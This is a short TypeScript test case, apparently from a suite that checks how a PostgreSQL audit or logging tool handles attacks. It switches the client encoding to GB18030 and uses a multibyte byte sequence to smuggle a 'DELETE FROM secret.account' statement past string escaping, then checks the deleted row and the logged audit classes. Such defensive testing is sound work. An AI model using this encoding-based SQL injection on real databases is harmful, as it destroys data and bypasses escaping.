import { accounts_left, queryOf, type Trick } from '../trick.js'

export const trick: Trick = {
  why: 'The same in GB18030, which has characters of four bytes as well.',
  sends: [
    "SET client_encoding = 'GB18030'",
    queryOf(
      "SELECT E'",
      Buffer.from([0xd5, 0x5c]),
      "'; DELETE FROM secret.account WHERE id = 1 --'",
    ),
  ],
  effect: [[accounts_left, '2']],
  trail: [{ class: 'MISC' }, { class: 'READ' }, { class: 'WRITE', rule: 'changes' }],
}
